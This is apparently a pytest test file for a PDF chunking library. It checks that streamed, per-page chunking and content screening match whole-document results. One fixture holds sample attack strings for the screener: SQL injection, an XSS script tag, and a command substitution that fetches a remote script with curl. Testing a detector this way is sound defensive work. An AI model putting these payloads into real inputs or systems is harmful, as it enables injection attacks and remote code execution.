"""Streaming chunking and the per-page content scan give exactly the whole-document results."""

from __future__ import annotations

from pathlib import Path

import pytest

import chunking
from chunking import Chunker, chunk_pages
from config import Settings
from errors import DangerousContent
from screening import Screener
from tests.test_chunking import SIZES_AND_OVERLAPS, marked_pages, pdf_page_texts

CORPUS_FILES = [
    "clean/freeculture.pdf",
    "clean/GeoTopo-komprimiert.pdf",
    "clean/2023_Q1_MSFT.pdf",
    "clean/pdflatex-4-pages.pdf",
]
ATTACK_PAGES = [
    (1, "An ordinary first page."),
    (2, "Log in as admin' OR '1'='1 and then <script>alert(1)</script>."),
    (3, "Nothing here."),
    (4, "Run $(curl http://x/y.sh) now; also ' or 1=1 again."),
]


def whole_document_chunks(pages: list[tuple[int, str]], size: int, overlap: int) -> tuple:
    """The algorithm as it was before streaming: one document string, cut and packed once."""
    size = min(max(size, chunking.MIN_CHUNK_CHARS), chunking.MAX_CHUNK_CHARS)
    overlap = min(max(overlap, 0), size // 2)
    texts = [(n, chunking.normalize_page_text(t)) for n, t in pages]
    texts = [(n, t) for n, t in texts if t]
    document = chunking._Document("", [], [], [])
    parts, length = [], 0
    for index, (number, text) in enumerate(texts):
        separator = ""
        if index + 1 < len(texts):
            text, separator = chunking._page_join(text, texts[index + 1][1])
        document.page_starts.append(length)
        document.page_ends.append(length + len(text))
        document.page_numbers.append(number)
        parts += (text, separator)
        length += len(text) + len(separator)
    document = document._replace(text="".join(parts))
    if not document.text:
        return [], []
    units = chunking._split_units(document.text, size)
    spans, truncated = chunking._pack(units, size, overlap)
    chunks = [chunking._chunk(i, document, start, end) for i, (start, end) in enumerate(spans)]
    return chunks, [chunking._cap_warning()] if truncated else []


def streamed(pages: list[tuple[int, str]], size: int, overlap: int) -> tuple:
    chunker = Chunker(size, overlap)
    for number, text in pages:
        chunker.add_page(number, text)
    return chunker.finish()


@pytest.mark.parametrize("seed", range(8))
@pytest.mark.parametrize(("size", "overlap"), SIZES_AND_OVERLAPS)
def test_streaming_equals_whole_document_on_synthetic_pages(
    seed: int, size: int, overlap: int
) -> None:
    pages = marked_pages(list(range(1, 30)) if seed % 2 else [2, 3, 7, 8, 20], seed)
    expected = whole_document_chunks(pages, size, overlap)
    assert expected[0]  # the case is not trivially empty
    assert streamed(pages, size, overlap) == expected
    assert chunk_pages(pages, size, overlap) == expected


def test_streaming_equals_whole_document_on_hyphens_and_page_joins() -> None:
    pages = [
        (1, "A sentence that ends mid-\n"),
        (2, "word and goes on"),
        (3, ""),
        (4, "and on. Then a new para-"),
        (5, "Graph starts.\n\nAnother paragraph"),
        (6, "continues here. Dr. Who met Mr. X.\n\n\nEnd."),
    ]
    for size, overlap in SIZES_AND_OVERLAPS:
        assert streamed(pages, size, overlap) == whole_document_chunks(pages, size, overlap)


@pytest.mark.parametrize("name", CORPUS_FILES)
def test_streaming_equals_whole_document_on_real_pdfs(corpus: Path, name: str) -> None:
    pages = pdf_page_texts(corpus / name)
    for size, overlap in [(1500, 400), (100, 50), (2000, 0)]:
        expected = whole_document_chunks(pages, size, overlap)
        assert expected[0]
        assert streamed(pages, size, overlap) == expected


def test_streaming_empty_and_blank_pages() -> None:
    assert streamed([], 1500, 400) == ([], [])
    assert streamed([(1, " \n\n"), (2, "")], 1500, 400) == ([], [])


@pytest.mark.parametrize("mode", ["off", "flag"])
def test_per_page_scan_gives_the_whole_document_warnings(mode: str) -> None:
    screener = Screener(Settings(dangerous_content=mode))
    findings = [f for n, text in ATTACK_PAGES for f in screener.scan_page(n, text)]
    warnings = screener.judge_text(sorted(findings, key=lambda f: f["page"]))
    assert warnings == screener.check_text(ATTACK_PAGES)
    assert bool(warnings) == (mode == "flag")


def test_per_page_scan_rejects_like_the_whole_document() -> None:
    screener = Screener(Settings(dangerous_content="reject"))
    findings = [f for n, text in ATTACK_PAGES for f in screener.scan_page(n, text)]
    with pytest.raises(DangerousContent) as streamed_error:
        screener.judge_text(findings)
    with pytest.raises(DangerousContent) as batch_error:
        screener.check_text(ATTACK_PAGES)
    assert streamed_error.value.message == batch_error.value.message
